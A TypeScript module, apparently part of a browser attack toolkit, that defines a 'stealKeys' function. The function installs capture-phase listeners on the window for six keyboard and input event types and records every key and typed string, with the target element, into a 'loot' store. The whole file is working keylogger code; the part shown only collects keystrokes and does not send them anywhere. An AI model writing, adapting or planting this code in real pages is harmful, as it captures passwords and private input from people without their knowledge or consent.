import type { Loot } from './loot';

const TYPES = ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'compositionupdate'] as const;

const nameOf = (target: EventTarget | null) =>
  target instanceof Node ? target.nodeName.toLowerCase() : 'window';

/** Hears every key first, as a capture listener on the window. */
export function stealKeys(loot: Loot): void {
  for (const type of TYPES) {
    window.addEventListener(
      type,
      (event) => {
        const key =
          event instanceof KeyboardEvent ? event.key : event instanceof InputEvent ? (event.data ?? '') : '';
        loot.keys.push({ type, key, target: nameOf(event.target), trusted: event.isTrusted });
      },
      true,
    );
  }
}
